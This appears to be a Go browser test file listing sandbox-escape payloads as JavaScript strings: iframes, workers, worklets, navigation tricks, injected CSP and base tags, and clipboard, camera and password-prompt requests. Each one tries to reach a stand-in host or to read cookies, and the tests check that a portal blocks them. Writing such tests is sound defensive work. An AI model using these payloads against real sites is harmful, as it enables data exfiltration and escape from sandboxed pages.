package browser_test

func nestedAttacks() []attack {
	return []attack{
		{name: "iframe", script: `return violates("frame-src", () => frame({ src: STRANGER + "/frame" }))`},
		{name: "iframe of data:", script: `return violates("frame-src", () => frame({ src: "data:text/html,<img src='" + STRANGER + "/data'>" }))`},
		{name: "iframe of blob:", script: `return violates("frame-src", () => frame({ src: URL.createObjectURL(new Blob(["<img src='" + STRANGER + "/blob'>"], { type: "text/html" })) }))`},
		{name: "iframe srcdoc that loads", script: `return tells("<img src='" + STRANGER + "/srcdoc' onerror=\"parent.postMessage({ nested: 'held' }, '*')\" onload=\"parent.postMessage({ nested: 'loaded' }, '*')\">")`},
		{name: "iframe srcdoc that fetches", script: `return tells("<script>fetch('" + STRANGER + "/srcdoc-fetch', { mode: 'no-cors' }).then(() => parent.postMessage({ nested: 'sent' }, '*'), () => parent.postMessage({ nested: 'held' }, '*'))<\/script>")`},
		{name: "iframe srcdoc with a looser sandbox", script: `return tells("<script>let r = 'held'; try { r = top.document.title; } catch {} try { r = document.cookie; } catch {} parent.postMessage({ nested: r }, '*')<\/script>", "allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals")`},
		{name: "iframe about:blank that is written to", script: `const f = frame({}); try { f.contentDocument.write("<img src='" + STRANGER + "/blank'>"); } catch {} return ""`},
		{name: "iframe javascript:", script: `frame({ src: "javascript:'<img src=" + STRANGER + "/javascript>'" }); return ""`},
		{name: "a sibling frame's document", script: `for (let i = 0; i < parent.length; i++) if (parent[i] !== self) { try { return parent[i].document.title; } catch {} } return ""`},
	}
}

func codeAttacks() []attack {
	return []attack{
		{name: "script src", script: `return loads("script", { src: STRANGER + "/script.js" })`},
		{name: "script type=module", script: `return loads("script", { type: "module", src: STRANGER + "/module.js" })`},
		{name: "import()", script: `return rejects(() => import(STRANGER + "/import.js"))`},
		{name: "an import map", script: `const s = document.createElement("script"); s.type = "importmap"; s.textContent = JSON.stringify({ imports: { lib: STRANGER + "/map.js" } }); document.head.append(s); return rejects(() => import("lib"))`},
		{name: "Worker from elsewhere", script: `return rejects(() => new Promise((ok, no) => { const w = new Worker(STRANGER + "/worker.js"); w.onmessage = ok; w.onerror = no; }))`},
		{name: "Worker of the portal's origin", script: `return rejects(() => new Promise((ok, no) => { const w = new Worker(PORTAL + "/assets/portal.js"); w.onmessage = ok; w.onerror = no; }))`},
		{name: "Worker that fetches", script: `return worker("fetch('" + STRANGER + "/worker-fetch', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage(''))")`},
		{name: "Worker that opens a socket", script: `return worker("const s = new WebSocket('" + STRANGER.replace(/^http/, "ws") + "/worker-socket'); s.onopen = () => postMessage('opened'); s.onerror = () => postMessage('')")`},
		{name: "Worker that imports", script: `return worker("try { importScripts('" + STRANGER + "/worker-import.js'); postMessage('imported') } catch { postMessage('') }")`},
		{name: "Worker within a worker", script: `return worker("try { const w = new Worker('" + STRANGER + "/worker-worker.js'); w.onmessage = () => postMessage('started'); w.onerror = () => postMessage('') } catch { postMessage('') }")`},
		{name: "SharedWorker", script: `return rejects(() => new Promise((ok, no) => { const w = new SharedWorker(PORTAL + "/assets/portal.js"); w.onerror = no; w.port.onmessage = ok; }))`},
		{name: "service worker", script: `return rejects(() => navigator.serviceWorker.register(PORTAL + "/assets/portal.js"))`},
		{name: "CSS paint worklet", script: `return rejects(() => CSS.paintWorklet.addModule(STRANGER + "/paint.js"))`},
		{name: "audio worklet", script: `return rejects(() => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(STRANGER + "/audio.js"))`},
		{name: "a clock to tell cached pages apart: isolation", script: `return self.crossOriginIsolated || typeof SharedArrayBuffer !== "undefined" ? "isolated" : ""`},
		{name: "the time that the portal's answers take", script: `const before = performance.getEntriesByType("resource").length; await fetch(PORTAL + "/?timed").catch(() => {}); return performance.getEntriesByType("resource").slice(before).some((e) => e.responseStatus) ? "timed" : ""`},
	}
}

func leavingAttacks() []attack {
	return []attack{
		{name: "window.open", script: `return open(STRANGER + "/open") ? "opened" : ""`},
		{name: "window.open without an opener", script: `open(STRANGER + "/noopener", "_blank", "noopener"); return ""`},
		{name: "window.open onto the tab", script: `return denied(() => { if (open(STRANGER + "/open-top", "_top") === null) throw 0; })`},
		{name: "a link to a new window", script: `link({ href: STRANGER + "/blank", target: "_blank" }).click(); return ""`},
		{name: "a form to a new window", script: `form({ action: STRANGER + "/form-blank", target: "_blank" }); return ""`},
		{name: "a form to a stranger", script: `return violates("form-action", () => form({ action: STRANGER + "/form" }))`},
		{name: "a form to the tab", script: `form({ action: STRANGER + "/form-top", target: "_top" }); return ""`},
		{name: "a download", script: `link({ href: STRANGER + "/file", download: "file" }).click(); return ""`},
		{name: "a download of text of its own", script: `link({ href: URL.createObjectURL(new Blob(["x"])), download: "attack-download.txt" }).click(); return ""`},
		{name: "location", alone: true, script: `location = STRANGER + "/?location"`},
		{name: "location.replace", alone: true, script: `location.replace(STRANGER + "/?replace")`},
		{name: "location to the portal", alone: true, script: `location = PORTAL + "/"`},
		{name: "a link", alone: true, script: `link({ href: STRANGER + "/?link" }).click()`},
		{name: "meta refresh", alone: true, script: `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + STRANGER + "/?refresh"; document.head.append(m)`},
		{name: "top.location", alone: true, script: `top.location = STRANGER + "/?top"`},
		{name: "top.location.hash", alone: true, script: `top.location.hash = "moved"`},
		{name: "parent.location.replace", alone: true, script: `parent.location.replace(STRANGER + "/?parent")`},
		{name: "parent.location to javascript:", alone: true, script: `parent.location = "javascript:fetch('" + STRANGER + "/?parent-javascript')"`},
		{name: "a link to the tab", alone: true, script: `link({ href: STRANGER + "/?link-top", target: "_top" }).click()`},
		{name: "history.back", alone: true, script: `history.back()`},
		{name: "history.go", alone: true, script: `history.go(-2)`},
		{name: "navigation.navigate", alone: true, script: `navigation.navigate(STRANGER + "/?navigation")`},
		{name: "location to data:", alone: true, script: `location = "data:text/html,<script>fetch('" + STRANGER + "/?data')<\/script><img src='" + STRANGER + "/?data-img'>"`},
		{name: "location to blob:", alone: true, script: `location = URL.createObjectURL(new Blob(["<img src='" + STRANGER + "/?blob'>"], { type: "text/html" }))`},
		{name: "location to javascript:", alone: true, script: `location = "javascript:'<img src=" + STRANGER + "/?javascript>'"`},
		{name: "beforeunload that holds the worker", alone: true, script: `addEventListener("beforeunload", (e) => { e.preventDefault(); e.returnValue = "stay"; })`},
	}
}

func policyAttacks() []attack {
	return []attack{
		{name: "a policy of its own by meta", script: `const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "default-src * 'unsafe-inline'; connect-src *"; document.head.append(m); return (await image(STRANGER + "/meta")) || rejects(() => fetch(STRANGER + "/meta", { mode: "no-cors" }))`},
		{name: "base href", script: `const b = document.createElement("base"); b.href = STRANGER + "/"; document.head.append(b); return document.baseURI.startsWith(STRANGER) ? "moved" : image("relative.png")`},
		{name: "referrer policy by meta", script: `const m = document.createElement("meta"); m.name = "referrer"; m.content = "unsafe-url"; document.head.append(m); return image(STRANGER + "/referrer")`},
		{name: "a nonce, guessed", script: `return loads("script", { nonce: "", src: STRANGER + "/nonce.js" })`},
		{name: "trusted types off", script: `const d = document.implementation.createHTMLDocument(); d.body.innerHTML = "<img src='" + STRANGER + "/inert'>"; document.body.append(document.adoptNode(d.body.firstChild)); return violates("img-src", () => {})`},
		{name: "document.open and write", alone: true, script: `document.open(); document.write("<!doctype html><img src='" + STRANGER + "/?written'><script>fetch('" + STRANGER + "/?written-fetch')<\/script>"); document.close()`},
	}
}

func deviceAttacks() []attack {
	return []attack{
		{name: "clipboard, read", script: `return rejects(() => navigator.clipboard.readText())`},
		{name: "clipboard, write", script: `return rejects(() => navigator.clipboard.writeText("planted"))`},
		{name: "paste", script: `return document.execCommand("paste") ? "pasted" : ""`},
		{name: "full screen", script: `return rejects(() => document.documentElement.requestFullscreen())`},
		{name: "pointer lock", script: `return rejects(() => document.body.requestPointerLock())`},
		{name: "dialogs: confirm and prompt", script: `return confirm("Your password?") || prompt("Your password?") ? "answered" : ""`},
		{name: "geolocation", script: `return rejects(() => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)))`},
		{name: "camera and microphone", script: `return rejects(() => navigator.mediaDevices.getUserMedia({ audio: true, video: true }))`},
		{name: "the screen", script: `return rejects(() => navigator.mediaDevices.getDisplayMedia())`},
		{name: "notifications", script: `return (await Promise.resolve(typeof Notification === "undefined" ? "denied" : Notification.permission)) === "granted" ? "granted" : ""`},
		{name: "USB", script: `return rejects(() => navigator.usb.requestDevice({ filters: [] }))`},
		{name: "files", script: `return rejects(() => showOpenFilePicker())`},
	}
}
